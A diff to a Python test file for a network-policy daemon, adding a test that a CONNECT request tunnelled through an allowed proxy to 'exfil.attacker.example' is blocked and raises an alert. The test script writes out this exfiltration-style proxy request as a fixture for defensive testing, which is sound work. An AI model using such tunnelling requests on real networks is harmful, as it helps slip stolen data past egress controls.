@@ -105,3 +105,30 @@ def test_enforce_mode_sinks_the_post_and_records_its_shape(
     for path in (daemon.events_path, daemon.log_path):
         text = path.read_text()
         assert SECRET not in text and TOKEN not in text, path
+
+
+def test_a_proxy_request_is_judged_on_the_destination_it_names(
+        daemon: DaemonHandle, test_host: TestHost, tmp_path: Path) -> None:
+    policy = tmp_path / "policy.yaml"
+    policy.write_text("version: 1\nmode: enforce\ngroups:\n  proxy: {cidrs: ['"
+                      + test_host.v4 + "/32'], ports: [8080]}\nrules:\n"
+                      "  - {id: via-proxy, role: other, to: [proxy], action: allow}\n")
+    assert daemon.stop() == 0
+    daemon.start("--policy", str(policy))
+    out = subprocess.run(daemon.exec_argv(sys.executable, "-c", f"""
+import socket
+s = socket.create_connection(("{test_host.v4}", 8080), timeout=5)   # the proxy: allowed
+s.sendall(b"CONNECT exfil.attacker.example:443 HTTP/1.1\\r\\n"
+          b"Host: exfil.attacker.example:443\\r\\n\\r\\n")
+try:
+    print("answered" if s.recv(100) else "cut off")
+except ConnectionResetError:
+    print("cut off")
+"""), capture_output=True, text=True, timeout=60, check=True).stdout.strip()
+    assert out == "cut off"
+    alert = daemon.wait_event("the blocked proxy request", lambda e: e["type"] == "alert"
+                              and e["kind"] == "blocked_attempt")
+    assert alert["evidence"]["proxied_to"] == "exfil.attacker.example:443"
+    assert alert["evidence"]["method"] == "CONNECT" and alert["rule"] == "default:other"
+    assert [e["decision"] for e in daemon.events("connection")] == ["allow"]
+    assert test_host.requests() == []  # the proxy never saw the request
